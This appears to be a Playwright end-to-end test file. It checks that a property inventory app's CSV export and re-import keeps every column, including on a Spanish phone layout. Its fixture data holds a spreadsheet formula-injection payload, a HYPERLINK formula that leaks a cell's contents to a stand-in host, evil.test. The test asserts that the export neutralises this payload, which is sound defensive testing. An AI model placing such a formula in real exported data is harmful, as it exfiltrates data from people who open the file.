import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { createInventoryItem } from '@staging/db/testing/factories';
import { seedAgentWithListing, seedUnitWithItems } from '@staging/stack/e2e-fixtures';
import type { E2eData } from '@staging/stack/e2e-fixtures';
import { expect, saveScreenshot, signInQuickly, stack, test, VIEWPORTS } from './support/fixtures';

const FORMULA_NOTE = '=HYPERLINK("http://evil.test/?leak="&A2,"Click me")\nsecond line';

/** Tower with three items whose notes hold line breaks and a formula, and an empty Annex. */
async function seedTowerAndAnnex(data: E2eData, title: string) {
  const listing = await seedAgentWithListing(data, { title });
  const tower = await seedUnitWithItems(data, { propertyId: listing.propertyId, name: 'Tower' });
  const items = [
    { unitNumber: 'T-1', floor: 1, status: 'SOLD' as const, priceAdjustment: 1250.5, notes: 'corner unit\r\nsea view' },
    { unitNumber: '=1+1', floor: -1.5, status: 'RESERVED' as const, priceAdjustment: -300, notes: FORMULA_NOTE },
    { unitNumber: 'T-3', floor: null, status: 'RENTED' as const, priceAdjustment: null, notes: null },
  ];
  for (const item of items) await createInventoryItem(data.db, { propertyUnitId: tower, ...item });
  const annex = await seedUnitWithItems(data, { propertyId: listing.propertyId, name: 'Annex' });
  return { ...listing, tower, annex };
}

async function storedItems(data: E2eData, propertyUnitId: string) {
  const items = await data.db.inventoryItem.findMany({ where: { propertyUnitId }, orderBy: { unitNumber: 'asc' } });
  return items.map((item) => ({ unitNumber: item.unitNumber, floor: item.floor, status: item.status, price: item.priceAdjustment?.toString() ?? null, notes: item.notes }));
}

/** Exports the inventory and imports the file into Annex; answers the downloaded file's name and text. */
async function exportAndImportIntoAnnex(page: Page, texts: { export: string; importInto: string; file: string }) {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: texts.export }).click();
  const file = await download;
  const bytes = await readFile(await file.path());
  await page.getByLabel(texts.importInto).selectOption({ label: 'Annex' });
  await page.getByLabel(texts.file).setInputFiles({ name: file.suggestedFilename(), mimeType: 'text/csv', buffer: bytes });
  return { name: file.suggestedFilename(), text: bytes.toString('utf8') };
}

test('CSV: an export imported into another unit keeps every column, notes included; formulas stay inert; the file is named after the property', async ({ page, data }) => {
  const { agent, propertyId, tower, annex } = await seedTowerAndAnnex(data, 'Casa Azul — Ático 3');
  await signInQuickly(page, agent);
  await page.goto(`/properties/${propertyId}/inventory`);
  await expect(page.getByTestId('inventory-row')).toHaveCount(3);

  const exported = await exportAndImportIntoAnnex(page, { export: 'Export all units (CSV)', importInto: 'Import into', file: 'CSV file' });
  expect(exported.name).toBe('casa-azul-atico-3-inventory.csv');
  // Every runnable cell starts with a quote, also the note that holds a line break.
  expect(exported.text).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A2,""Click me"")\nsecond line"`);
  expect(exported.text).toContain(`,'=1+1,`);
  expect(exported.text).toContain(`"'corner unit\r\nsea view"`);

  await expect(page.getByTestId('unused-columns')).toHaveText('This column is not imported: unitName. Every row goes into Annex.');
  await expect(page.getByTestId('preview-row')).toHaveCount(3);
  await expect(page.getByTestId('preview-row').filter({ hasText: 'T-1' })).toContainText('corner unit');
  await page.getByTestId('import-preview').scrollIntoViewIfNeeded();
  await saveScreenshot(page, 'csv-round-trip-preview', { fullPage: false });
  await page.getByRole('button', { name: 'Import 3 valid rows' }).click();
  await expect(page.getByTestId('import-status')).toHaveText('Imported 3 of 3 rows.');

  expect(await storedItems(data, annex)).toEqual(await storedItems(data, tower));
  expect((await storedItems(data, annex)).map((item) => item.notes)).toEqual([FORMULA_NOTE, 'corner unit\r\nsea view', null]);
});

test('CSV in Spanish on a phone: the preview names the column it does not import, and the round trip holds', async ({ browser, data }) => {
  const { agent, propertyId, tower, annex } = await seedTowerAndAnnex(data, 'Piso Centro');
  const phone = VIEWPORTS.find((viewport) => viewport.name === 'phone')!;
  const context = await browser.newContext({ baseURL: stack.webUrl, locale: 'es-ES', viewport: { width: phone.width, height: phone.height } });
  const page = await context.newPage();
  await signInQuickly(page, agent);
  await page.goto(`/properties/${propertyId}/inventory`);
  await expect(page.getByTestId('inventory-row')).toHaveCount(3);

  const exported = await exportAndImportIntoAnnex(page, { export: 'Exportar todas las unidades (CSV)', importInto: 'Importar en', file: 'Archivo CSV' });
  expect(exported.name).toBe('piso-centro-inventory.csv');
  await expect(page.getByTestId('unused-columns')).toHaveText('Esta columna no se importa: unitName. Todas las filas van a Annex.');
  // The note shows under its unit number: the preview needs no sideways scroll on a phone.
  await expect(page.getByTestId('preview-row').filter({ hasText: 'T-1' }).locator('td').nth(1).getByText('corner unit')).toBeVisible();
  const frame = await page.getByTestId('preview-row').first().evaluate((row) => {
    const scroller = row.closest('[role="region"]')!;
    return scroller.scrollWidth - scroller.clientWidth;
  });
  expect(frame).toBeLessThanOrEqual(0);
  await page.getByTestId('unused-columns').scrollIntoViewIfNeeded();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(phone.width);
  await saveScreenshot(page, 'csv-round-trip-preview-es-phone', { fullPage: false });
  await page.getByRole('button', { name: 'Importar 3 filas válidas' }).click();
  await expect(page.getByTestId('import-status')).toHaveText('Importadas 3 de 3 filas.');
  expect(await storedItems(data, annex)).toEqual(await storedItems(data, tower));
  await context.close();
});
